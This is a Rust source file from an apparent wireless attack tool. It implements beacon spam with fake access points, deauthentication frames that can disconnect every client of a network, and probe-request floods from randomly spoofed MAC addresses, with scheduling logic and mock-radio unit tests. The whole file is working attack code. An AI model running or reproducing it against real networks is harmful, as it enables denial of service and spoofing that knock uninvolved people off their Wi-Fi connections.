use crate::injector::FrameInjector;
use crate::radio::RadioDriver;
use dot11::elements::Ssid;
use dot11::mac::{self, MacAddress};
use rand::Rng;
use rand::rngs::StdRng;
use std::fmt;
use std::time::{Duration, Instant};

#[derive(Clone, Debug, Eq, PartialEq)]
pub enum AttackMode {
    /// Advertise every SSID from its own made-up access point.
    BeaconSpam { ssids: Vec<Ssid> },

    /// Kick `target` off `bssid`. A broadcast target hits every client.
    Deauth { bssid: MacAddress, target: MacAddress },

    /// Probe for every SSID from a fresh random client address each time.
    ProbeFlood { ssids: Vec<Ssid> },
}

impl AttackMode {
    /// An attack with no SSIDs would transmit nothing.
    pub fn is_empty(&self) -> bool {
        match self {
            AttackMode::BeaconSpam { ssids } | AttackMode::ProbeFlood { ssids } => ssids.is_empty(),
            AttackMode::Deauth { .. } => false,
        }
    }
}

impl fmt::Display for AttackMode {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            AttackMode::BeaconSpam { ssids } => write!(f, "beacon spam ({} SSIDs)", ssids.len()),
            AttackMode::Deauth { bssid, target } => write!(f, "deauth {bssid} -> {target}"),
            AttackMode::ProbeFlood { ssids } => write!(f, "probe flood ({} SSIDs)", ssids.len()),
        }
    }
}

/// A running attack: its mode, the channel it transmits on, and the
/// cadence bookkeeping.
pub struct Attack {
    mode: AttackMode,
    channel: u8,
    started: Instant,
    last_fired: Option<Instant>,
    fired: u64,

    /// One BSSID per spammed SSID, fixed for the attack's lifetime.
    identities: Vec<MacAddress>,
    rng: StdRng,
}

impl Attack {
    pub fn new(mode: AttackMode, channel: u8, now: Instant, mut rng: StdRng) -> Self {
        let identities = match &mode {
            AttackMode::BeaconSpam { ssids } => {
                ssids.iter().map(|_| random_address(&mut rng)).collect()
            },
            _ => Vec::new(),
        };

        Self {
            mode,
            channel,
            started: now,
            last_fired: None,
            fired: 0,

            identities,
            rng,
        }
    }

    pub fn is_expired(&self, now: Instant, timeout: Duration) -> bool {
        now.duration_since(self.started) >= timeout
    }

    /// The first round fires right away, later ones once per `interval`.
    pub fn is_due(&self, now: Instant, interval: Duration) -> bool {
        match self.last_fired {
            None => true,
            Some(last_fired) => now.duration_since(last_fired) >= interval,
        }
    }

    /// Runs one round. Returns the number of frames the radio accepted.
    pub fn fire<R: RadioDriver + ?Sized>(
        &mut self, now: Instant, injector: &mut FrameInjector, radio: &mut R,
    ) -> usize {
        self.last_fired = Some(now);
        self.fired += 1;

        match &self.mode {
            AttackMode::BeaconSpam { ssids } => ssids
                .iter()
                .zip(self.identities.iter())
                .map(|(ssid, bssid)| injector.broadcast_beacon(radio, ssid, *bssid, self.channel))
                .sum(),
            AttackMode::Deauth { bssid, target } => injector.send_deauth(radio, *target, *bssid),
            AttackMode::ProbeFlood { ssids } => {
                let mut sent = 0;
                for ssid in ssids {
                    let source = random_address(&mut self.rng);
                    sent += injector.send_probe_request(radio, ssid, source);
                }
                sent
            },
        }
    }

    pub fn mode(&self) -> &AttackMode {
        &self.mode
    }

    pub fn channel(&self) -> u8 {
        self.channel
    }

    pub fn identities(&self) -> &[MacAddress] {
        &self.identities
    }

    /// Rounds fired so far.
    pub fn fired(&self) -> u64 {
        self.fired
    }
}

fn random_address(rng: &mut StdRng) -> MacAddress {
    let mut bytes = [0u8; mac::LENGTH_BYTES];
    rng.fill(&mut bytes);
    MacAddress::local_unicast(bytes)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testing::MockRadio;
    use rand::SeedableRng;

    fn ssids(names: &[&str]) -> Vec<Ssid> {
        names.iter().map(|name| Ssid::from(*name)).collect()
    }

    #[test]
    fn test_beacon_spam_identities_are_stable() {
        let mut radio = MockRadio::default();
        let mut injector = FrameInjector::new(1, Duration::ZERO);
        let now = Instant::now();

        let mode = AttackMode::BeaconSpam {
            ssids: ssids(&["one", "two", "three"]),
        };
        let mut attack = Attack::new(mode, 6, now, StdRng::seed_from_u64(7));

        assert_eq!(attack.fire(now, &mut injector, &mut radio), 3);
        assert_eq!(attack.fire(now, &mut injector, &mut radio), 3);

        let frames = radio.transmitted();
        for (first, second) in frames[..3].iter().zip(frames[3..].iter()) {
            assert_eq!(first[10..16], second[10..16]);
        }
        for identity in attack.identities() {
            assert!(identity.is_locally_administered());
            assert!(!identity.is_multicast());
        }
        assert_eq!(attack.fired(), 2);
    }

    #[test]
    fn test_probe_flood_rotates_sources() {
        let mut radio = MockRadio::default();
        let mut injector = FrameInjector::new(1, Duration::ZERO);
        let now = Instant::now();

        let mode = AttackMode::ProbeFlood {
            ssids: ssids(&["corp"]),
        };
        let mut attack = Attack::new(mode, 1, now, StdRng::seed_from_u64(1));
        attack.fire(now, &mut injector, &mut radio);
        attack.fire(now, &mut injector, &mut radio);

        let frames = radio.transmitted();
        assert_eq!(frames.len(), 2);
        assert_ne!(frames[0][10..16], frames[1][10..16]);
    }

    #[test]
    fn test_cadence_and_timeout() {
        let now = Instant::now();
        let mode = AttackMode::Deauth {
            bssid: MacAddress::default(),
            target: MacAddress::BROADCAST,
        };
        let mut attack = Attack::new(mode, 1, now, StdRng::seed_from_u64(0));
        let interval = Duration::from_millis(100);

        assert!(attack.is_due(now, interval));
        attack.fire(now, &mut FrameInjector::new(1, Duration::ZERO), &mut MockRadio::default());
        assert!(!attack.is_due(now + Duration::from_millis(99), interval));
        assert!(attack.is_due(now + interval, interval));

        let timeout = Duration::from_secs(15);
        assert!(!attack.is_expired(now + Duration::from_secs(14), timeout));
        assert!(attack.is_expired(now + timeout, timeout));
    }

    #[test]
    fn test_empty_modes() {
        assert!(AttackMode::BeaconSpam { ssids: Vec::new() }.is_empty());
        assert!(AttackMode::ProbeFlood { ssids: Vec::new() }.is_empty());
        assert!(
            !AttackMode::Deauth {
                bssid: MacAddress::default(),
                target: MacAddress::BROADCAST
            }
            .is_empty()
        );
    }
}
